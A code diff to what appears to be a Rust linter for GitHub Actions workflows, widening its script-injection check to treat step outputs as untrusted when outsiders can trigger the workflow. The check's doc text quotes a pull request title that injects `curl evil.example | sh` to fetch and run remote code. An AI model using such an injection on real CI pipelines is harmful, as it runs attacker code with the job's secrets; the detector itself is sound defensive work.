@@ -13,7 +13,9 @@ check_doc! {
     doc: "A `run:` script (or the `script:` of `actions/github-script`) contains an expression \
 whose value anyone can choose: an issue, pull request, comment or review title or body, a \
 branch name (`github.head_ref`, `pull_request.head.ref`), a commit message or author, a page \
-name.\n\n\
+name; and, in workflows outsiders start (pull requests, comments, issues), the outputs of \
+earlier steps, which carry what they read from the event (the names of the files a pull request \
+changed).\n\n\
 Why: the runner pastes the value into the script before the shell reads it, so a pull request \
 titled `\"; curl evil.example | sh; \"` runs that command on the runner, with the job's token \
 and secrets.\n\n\
@@ -52,22 +54,42 @@ const UNTRUSTED: &[&str] = &[
     "github.head_ref",
 ];
 
-fn untrusted(property: &str) -> bool {
+/// Events an outsider can cause (a pull request, a comment, an issue): in workflows they
+/// start, a step's outputs may carry what the outsider wrote (the names of the files a pull
+/// request changed, a parsed comment).
+const OUTSIDER_TRIGGERS: &[&str] = &[
+    "pull_request",
+    "pull_request_target",
+    "issue_comment",
+    "issues",
+    "discussion",
+    "discussion_comment",
+    "pull_request_review",
+    "pull_request_review_comment",
+    "workflow_run",
+];
+
+fn untrusted(property: &str, outsider_run: bool) -> bool {
     UNTRUSTED.contains(&property)
+        || (outsider_run && property.starts_with("steps.") && property.contains(".outputs."))
 }
 
 /// The untrusted properties `text` expands.
-fn injected(text: &str) -> Vec<String> {
+fn injected(text: &str, outsider_run: bool) -> Vec<String> {
     let mut found: Vec<String> = expressions(text)
         .into_iter()
         .flat_map(properties)
-        .filter(|property| untrusted(property))
+        .filter(|property| untrusted(property, outsider_run))
         .collect();
     found.dedup();
     found
 }
 
 pub(super) fn run(context: &Context<'_>, out: &mut Vec<Finding>) {
+    let outsider_run = context
+        .triggers()
+        .iter()
+        .any(|trigger| OUTSIDER_TRIGGERS.contains(trigger));
     for job in &context.jobs {
         for (index, step) in job.steps().iter().enumerate() {
             let script = step.get("run").and_then(Value::as_str).or_else(|| {
@@ -79,7 +101,7 @@ pub(super) fn run(context: &Context<'_>, out: &mut Vec<Finding>) {
             let Some(script) = script else {
                 continue;
             };
-            for property in injected(script) {
+            for property in injected(script, outsider_run) {
                 let name = step.get("name").and_then(Value::as_str);
                 let step_label = name.map_or_else(|| format!("step {}", index + 1), str::to_owned);
                 out.push(context.finding(
